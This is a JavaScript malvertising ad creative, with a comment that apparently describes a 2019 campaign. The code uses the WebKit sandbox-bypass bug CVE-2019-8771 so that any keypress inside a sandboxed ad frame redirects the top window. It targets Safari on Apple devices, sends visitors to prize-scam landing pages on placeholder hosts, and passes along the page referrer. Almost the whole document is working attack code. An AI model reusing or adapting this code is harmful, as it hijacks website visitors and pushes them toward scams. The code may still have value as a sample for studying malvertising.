// The November 2019 creative: publishers had put ads in sandboxed frames that may navigate
// the top window only after a user gesture, and the campaign moved to a WebKit bug
// (CVE-2019-8771) in which a keydown handler in the frame counted as that gesture. The ad
// installs onkeydown handlers on its document and body, waits for the visitor to press any
// key (typing into the publisher's search box or scrolling with the keyboard), and then
// navigates the top window to the landing page; iOS and macOS Safari only.
(function (w, d) {
  var ua = navigator.userAgent;
  if (!/AppleWebKit/.test(ua) || /Chrome|CriOS|FxiOS|Edg/.test(ua)) return;
  if (!/Macintosh|iPhone|iPad/.test(ua)) return;
  var sandboxed = false;
  try { sandboxed = w.frameElement && w.frameElement.hasAttribute("sandbox"); } catch (e) { sandboxed = w !== w.top; }
  var base = "https://" + ["winner-alert", "apple-prize-center", "ios-gift"][Date.now() % 3] + ".invalid";
  var landing = base + "/claim/index.html?s=egb2&sb=" + (sandboxed ? 1 : 0) +
    "&ref=" + encodeURIComponent(d.referrer);
  var fired = false;
  function jump(e) {
    if (fired) return;
    fired = true;
    try { w.top.location = landing; } catch (x) {
      var a = d.createElement("a");
      a.href = landing;
      a.target = "_top";
      d.body.appendChild(a);
      a.click();
    }
  }
  d.onkeydown = jump;
  if (d.body) d.body.onkeydown = jump;
  w.addEventListener("keydown", jump, true);
  w.focus();
})(window, document);
